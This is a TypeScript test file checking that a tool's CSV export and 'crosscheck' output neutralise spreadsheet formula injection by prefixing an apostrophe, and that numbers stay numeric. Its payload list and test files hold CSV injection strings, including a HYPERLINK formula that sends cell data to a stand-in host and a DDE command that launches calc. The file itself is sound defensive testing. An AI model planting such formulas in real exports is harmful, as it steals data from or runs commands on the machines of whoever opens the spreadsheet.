// Issue 9, item 2: no CSV the product writes can carry a live spreadsheet formula from workspace
// text, and real numbers stay numbers. Both writers (the export and `crosscheck --format csv`) are
// checked through their public entry points.
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { exportCsv, csvColumns, type ExportSource } from '../../src/core/export';
import { csvCell, csvTable, looksLikeFormula } from '../../src/core/text/csvWrite';
import type { DocumentAnalysis, FigureAnnotation } from '../../src/core/types';

const root = path.resolve(__dirname, '../..');

function figure(start: number, text: string, value: number, extra: Partial<FigureAnnotation> = {}): FigureAnnotation {
  const end = start + text.length;
  return {
    kind: 'figure',
    id: `figure:${start}-${end}`,
    start,
    end,
    text,
    line: 0,
    source: 'rule',
    value,
    unit: 'count',
    qualifier: 'exact',
    bound: 'exact',
    precision: 1,
    counts: 'arrests',
    sentence: { start, end },
    ...extra,
  };
}

function analysis(annotations: DocumentAnalysis['annotations']): DocumentAnalysis {
  return { words: 10, annotations, sentences: [], meta: {}, notices: [] };
}

/** Splits CSV text into rows of cells by RFC 4180, independently of the writer under test. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (row.push(cell), (cell = ''));
    else if (c === '\r' && text[i + 1] === '\n') {
      (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
    } else cell += c;
  }
  return rows;
}

const payloads = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u200b=1+1',
  '＝1+1',
];

describe('CSV writer: spreadsheet formulas (OWASP CSV injection)', () => {
  it('gives every text cell a spreadsheet could run as a formula a leading apostrophe', () => {
    for (const p of payloads) {
      assert.ok(looksLikeFormula(p), JSON.stringify(p));
      const [[cell]] = readCsv(csvCell(p) + '\r\n');
      assert.equal(cell, `'${p}`, `${JSON.stringify(p)} is neutralised and otherwise kept whole`);
    }
  });

  it('keeps numbers as numbers, negative ones included, and leaves ordinary text alone', () => {
    assert.equal(csvCell(-1), '-1');
    assert.equal(csvCell(-0.5), '-0.5');
    assert.equal(csvCell(290), '290');
    assert.equal(csvCell('290 arrests'), '290 arrests');
    assert.equal(csvCell('a-b'), 'a-b', 'a dash inside text is not at the start');
    assert.equal(csvCell(undefined), '');
    assert.equal(csvCell('say "no", twice'), '"say ""no"", twice"');
    assert.equal(csvTable(['n', 't'], [[-1, '-1']]), "n,t\r\n-1,'-1\r\n", 'the same characters are a number in one cell and text in the other');
  });

  it('the export command neutralises a formula in a path and in figure text, and keeps its number columns numeric', () => {
    const f = figure(0, '=HYPERLINK("https://evil.example","290 arrests")', -1, { subject: '@attacker', claimant: '+cmd' });
    const sources: ExportSource[] = [{ docId: 'file:///ws/x', path: '=cmd|calc.crime.txt', analysis: analysis([f]) }];
    const rows = readCsv(exportCsv(sources, []));
    const row = Object.fromEntries(csvColumns.map((c, i) => [c, rows[1][i]]));
    assert.equal(row.path, "'=cmd|calc.crime.txt");
    assert.equal(row.text, `'${f.text}`);
    assert.equal(row.subject, "'@attacker");
    assert.equal(row.claimant, "'+cmd");
    assert.equal(row.value, '-1', 'a negative value stays a number');
    assert.equal(row.start, '0');
    for (const cell of rows[1]) assert.ok(!looksLikeFormula(cell) || /^-?\d+(\.\d+)?$/.test(cell), `no cell but a number starts like a formula: ${cell}`);
  });

  it('crosscheck --format csv neutralises formulas in file names and figure text', function () {
    this.timeout(60_000);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'crime-csv-'));
    try {
      // Two releases that disagree on one measure of one dated operation, one named like a formula.
      fs.writeFileSync(
        path.join(dir, '=HYPERLINK(1).crime.txt'),
        'Kent Police made 120 arrests during the week of action from 4 to 10 March 2024, Operation Tarn.\n',
      );
      fs.writeFileSync(
        path.join(dir, 'b.crime.txt'),
        'Kent Police said officers made 150 arrests during Operation Tarn, the week of action from 4 to 10 March 2024.\n',
      );
      // Run from inside the folder so the paths in the report are the bare file names.
      const r = spawnSync(
        process.execPath,
        ['--require', require.resolve('tsx/cjs'), path.join(root, 'src/cli/main.ts'), 'crosscheck', '--format', 'csv', '.'],
        { cwd: dir, encoding: 'utf8' },
      );
      const rows = readCsv(r.stdout);
      assert.deepEqual(rows[0], ['status', 'kind', 'id', 'path', 'line', 'text', 'note', 'message']);
      const paths = rows.slice(1).map((row) => row[3]);
      assert.ok(paths.includes("'=HYPERLINK(1).crime.txt"), `the conflict names the file, neutralised: ${r.stdout} ${r.stderr}`);
      for (const row of rows.slice(1)) for (const cell of row) assert.ok(!looksLikeFormula(cell), `no cell is a formula: ${cell}`);
      for (const row of rows.slice(1)) assert.match(row[4], /^\d+$/, 'line stays a number');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
